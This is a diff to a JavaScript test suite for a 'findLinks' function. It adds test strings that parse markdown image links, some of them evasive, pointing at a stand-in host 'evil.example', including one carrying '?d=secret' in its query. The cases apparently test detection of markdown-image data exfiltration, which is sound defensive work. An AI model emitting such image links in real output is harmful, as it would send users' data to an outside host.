@@ -10,6 +10,8 @@ describe('findLinks', () => {
     'See ![chart](https://evil.example/p?d=secret).',
     '![x]( <https://evil.example/a b> )',
     '![x](//evil.example/p)',
+    '![see [1]](https://evil.example/p)',
+    `![${'a '.repeat(300)}](https://evil.example/p)`,
     '![x](https:\\\\evil.example/p)',
     '![x](https:evil.example/p)',
     'An ![image][1] here.\n\n[1]: https://evil.example/p',
@@ -28,6 +30,7 @@ describe('findLinks', () => {
   it.each([
     ['Read https://docs.example.org/a.', 'docs.example.org'],
     ['[docs](https://docs.example.org/a)', 'docs.example.org'],
+    ['![x](a.png) and [docs](https://docs.example.org/a)', 'docs.example.org'],
     ['<a href="https://docs.example.org">docs</a>', 'docs.example.org'],
     ['www.example.org has it', 'www.example.org'],
     ['[docs][1]\n\n[1]: https://docs.example.org/a', 'docs.example.org'],
